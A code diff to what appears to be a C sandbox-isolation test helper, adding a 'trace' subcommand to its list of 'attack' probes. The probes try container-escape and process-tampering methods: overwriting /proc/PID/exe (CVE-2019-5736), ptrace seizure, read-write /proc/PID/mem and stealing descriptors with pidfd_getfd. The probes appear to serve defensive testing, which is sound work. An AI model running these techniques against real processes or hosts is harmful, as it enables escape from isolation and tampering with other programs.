@@ -6,13 +6,14 @@
  *	attack binary PID       every way to write to /proc/PID/exe (CVE-2019-5736)
  *	attack hold PID SECONDS holds on to that binary until nobody runs it any more, then does as "binary" with it
  *	attack watch SECONDS    waits in /proc for a program that is neither this one nor busybox, and does as "hold" with it
+ *	attack trace PID        ptrace, its memory, its descriptors
  *	attack fds              descriptors above stdio, "N TARGET" a line
  *	attack swap A B SECONDS exchanges two names without pause
  *	attack packets SOCKET   garbage for a SOCK_SEQPACKET listener: other types, sizes, descriptors
  *	attack keys             the session keyring's description
  *	attack flood BYTES      writes that much to stdout, then ends
  *
- * binary, hold and watch print "WAY: ERRNO" for each way. What succeeds is "WAY: DONE" and makes the exit status 1. While a program runs
+ * binary, hold, watch and trace print "WAY: ERRNO" for each way. What succeeds is "WAY: DONE" and makes the exit status 1. While a program runs
  * nobody can write to it (ETXTBSY), which protects nothing: hence hold.
  */
 #include <dirent.h>
@@ -28,6 +29,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -222,6 +224,22 @@ static int attack_watch(const char *seconds)
 	return attack_later(fd, end);
 }
 
+static int attack_trace(const char *pid)
+{
+	char path[64];
+	int fd;
+
+	tell("ptrace", ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0);
+	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
+	try_open("memory", path, O_RDWR);
+	snprintf(path, sizeof(path), "/proc/%s/fd/0", pid);
+	fd = open(path, O_PATH | O_CLOEXEC);
+	tell("descriptors", fd >= 0);
+	fd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);
+	tell("pidfd_getfd", syscall(SYS_pidfd_getfd, fd, 0, 0) >= 0);
+	return successes > 0;
+}
+
 static int show_fds(void)
 {
 	for (int fd = 3; fd < 4096; fd++) {
@@ -333,6 +351,8 @@ int main(int argc, char **argv)
 		return attack_hold(argv[2], argv[3]);
 	if (strcmp(what, "watch") == 0 && argc == 3)
 		return attack_watch(argv[2]);
+	if (strcmp(what, "trace") == 0 && argc == 3)
+		return attack_trace(argv[2]);
 	if (strcmp(what, "fds") == 0)
 		return show_fds();
 	if (strcmp(what, "swap") == 0 && argc == 5)
